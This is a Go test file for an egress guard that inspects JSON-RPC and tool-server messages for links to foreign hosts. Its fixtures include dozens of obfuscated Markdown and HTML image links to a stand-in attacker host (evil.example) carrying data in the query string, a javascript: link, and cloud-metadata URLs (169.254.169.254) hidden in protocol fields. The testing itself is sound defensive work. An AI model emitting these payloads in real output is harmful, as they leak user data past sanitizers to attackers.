package egress_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/sallyport/sallyport/guard/egress"
	"github.com/sallyport/sallyport/internal/inspect/destination"
)

func judgeText(t *testing.T, results, text string) (withheld bool, got string) {
	t.Helper()
	quoted, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	v, got := answered(t, spec(), results, content(`{"type":"text","text":`+string(quoted)+`}`))
	return v.Reason == egress.ForeignLink, got
}

// A server that wants a client to load an image from elsewhere writes its link as
// renderers of Markdown and browsers read it, and as few others do.
func TestALinkIsFoundInEverySpellingThatARendererFollows(t *testing.T) {
	for name, text := range map[string]string{
		"no scheme":                                   "![x](//evil.example/p?d=1)",
		"no scheme, in angle brackets":                "![x](<//evil.example/p?d=1>)",
		"no scheme, after a line break":               "![x](\n//evil.example/p?d=1)",
		"no scheme, in a definition":                  "![x][i]\n\n[i]://evil.example/p?d=1",
		"no scheme, in a definition with a space":     "![x][i]\n\n[i]: //evil.example/p?d=1",
		"three slashes":                               "![x](///evil.example/p?d=1)",
		"a slash and a backslash":                     `<img src="/\evil.example/p?d=1">`,
		"the other way round, without quotes":         `<img src=\/evil.example/p?d=1>`,
		"backslashes that Markdown halves":            `![x](\\\\evil.example/p?d=1)`,
		"a backslash before the colon":                `![x](https\://evil.example/p?d=1)`,
		"backslashes before all punctuation":          `![x](https\:\/\/evil.example/p?d=1)`,
		"a backslash between slashes":                 `![x](/\/evil.example/p?d=1)`,
		"a reference to a letter":                     "![x](h&#116;tps://evil.example/p?d=1)",
		"a reference to a colon":                      "![x](https&colon;//evil.example/p?d=1)",
		"a numeric reference to a colon":              "![x](https&#x3a;&#x2f;/evil.example/p?d=1)",
		"references to slashes":                       `<img src="&sol;&#47;evil.example/p?d=1">`,
		"a line break in an attribute":                "<img src=\"ht\ntps://evil.example/p?d=1\">",
		"a line break between slashes":                "<img src='/\n/evil.example/p?d=1'>",
		"a line break after slashes":                  "<img src = \"//\nevil.example/p?d=1\">",
		"a reference to a line break":                 `<img src=ht&#10;tps://evil.example/p?d=1>`,
		"a reference to a tab":                        `<img src="ht&Tab;tps://evil.example/p?d=1">`,
		"a refresh":                                   `<meta http-equiv=refresh content="0;//evil.example/p?d=1">`,
		"the second of a set":                         `<img srcset="https://api.company.com/1 1x, //evil.example/p?d=1 2x">`,
		"a host that goes on behind an apostrophe":    "![x](https://api.company.com'.evil.example/p?d=1)",
		"a host that goes on behind a backtick":       "![x](<https://api.company.com`.evil.example/p?d=1>)",
		"a host that goes on behind another quote":    `<img src='https://api.company.com".evil.example/p?d=1'>`,
		"a host that goes on behind a line break":     "<img src='https://api.company.com\n.evil.example/p?d=1'>",
		"one slash, right behind an allowed link":     "[a](https://api.company.com/)![x](http:/evil.example/p?d=1)",
		"no slash, right behind an allowed link":      "[a](https://api.company.com/)![x](http:evil.example/p?d=1)",
		"a script, right behind an allowed link":      "[a](https://api.company.com/)[x](javascript:fetch)",
		"a calendar, which programs fetch as a page":  "webcal://evil.example/p?d=1",
		"a whole text without a scheme":               "//evil.example/p?d=1",
		"references that begin like one to a tab":     "![x](h&#116;tps://&#101;vil.example/p?d=1&#9x)",
		"a reference without a semicolon":             "![x](https&#58//evil.example/p?d=1)",
		"a host that is allowed, for somebody's name": `![x](//api.company.com@evil.example/p?d=1)`,
	} {
		if withheld, got := judgeText(t, "refuse", text); !withheld {
			t.Errorf("%s: the client gets %s", name, got)
		}
		if _, got := judgeText(t, "strip", text); strings.Contains(got, "d=1") || strings.Contains(got, "fetch") {
			t.Errorf("%s: stripped, the client gets %s", name, got)
		}
	}
}

func TestWhatOnlyLooksLikeALinkIsLeft(t *testing.T) {
	for name, text := range map[string]string{
		"an allowed host without a scheme":    "![x](//api.company.com/p)",
		"a possessive":                        "https://api.company.com's documents, and 'https://api.company.com'.",
		"quotes":                              `{"a":"https://api.company.com","b":'https://api.company.com',"c.d":1}`,
		"code that is commented out":          "a();\n//console.log(a.b)\n  //fmt.Println(x)\nb() //c.d",
		"paths in JSON that escapes":          `{"path":"\/var\/log.d\/x.html"}`,
		"formulas":                            `\\frac{a}{b} \\ \alpha.x \\hline`,
		"paths of Windows":                    `C:\dir\file.txt \\files\share`,
		"text with ampersands":                "AT&T & co: a&b;c, x &lt; y &amp;&amp; z",
		"an allowed link, with a query in it": "https://api.company.com/?a=1&amp;b=2#c",
		"times":                               "from=12:30(10:20) to=13:45",
	} {
		if withheld, _ := judgeText(t, "refuse", text); withheld {
			t.Errorf("%s: %q is withheld", name, text)
		}
	}
}

func TestLinksInErrorsAreJudged(t *testing.T) {
	const failure = `{"jsonrpc":"2.0","id":1,"error":{"code":-32042,"message":"see https://evil.example/","data":{"elicitations":[{"mode":"url","elicitationId":"e","url":"https://evil.example/login"}]}}}`
	if v, _ := answered(t, spec(), "refuse", failure); v.Reason != egress.ForeignLink {
		t.Errorf("%+v", v)
	}
	if _, got := answered(t, spec(), "strip", failure); !strings.Contains(got, `"url":"[link withheld]"`) || strings.Contains(got, "evil") {
		t.Errorf("%s", got)
	}
	if v, got := answered(t, spec(), "annotate", failure); got != failure || len(v.Obligations) == 0 {
		t.Errorf("%s %+v", got, v)
	}
}

// A text that is read in quadratic time would take minutes here.
func TestHostileTextsAreReadInLinearTime(t *testing.T) {
	for _, unit := range []string{`="`, `='="`, "&", "&#", "&#0000", `\`, `\\`, "(//", "(/", "//", "(http:", "=http:/", ":", "https://a'", `https://a'"`, "'.", "[x]:", "<//a.b", "= ", "=\n"} {
		destination.Links([]byte(strings.Repeat(unit, 1<<19/len(unit))))
	}
}

// The cursor of a list names no place. An argument that is called like it can, and a
// server that follows it goes there.
func TestANameOfTheProtocolsHidesNoDestination(t *testing.T) {
	for _, key := range []string{"cursor", "requestState", "progressToken", "taskId", "id"} {
		if v := judge(t, spec(), nil, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"t","arguments":{"`+key+`":"http://169.254.169.254/latest"}}}`); v.Reason != egress.Denied {
			t.Errorf("%s: %s", key, v.Action)
		}
	}
	if v := judge(t, spec(), nil, `{"jsonrpc":"2.0","id":1,"error":{"code":-1,"message":"see","data":{"url":"http://169.254.169.254/latest"}}}`); v.Reason != egress.Denied {
		t.Errorf("a client's error: %s", v.Action)
	}
	if v := judge(t, spec(), nil, `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"t","requestState":"http://169.254.169.254/latest"}}`); v.Reason != "" {
		t.Errorf("the state of a request is the server's own: %s", v.Detail)
	}
}
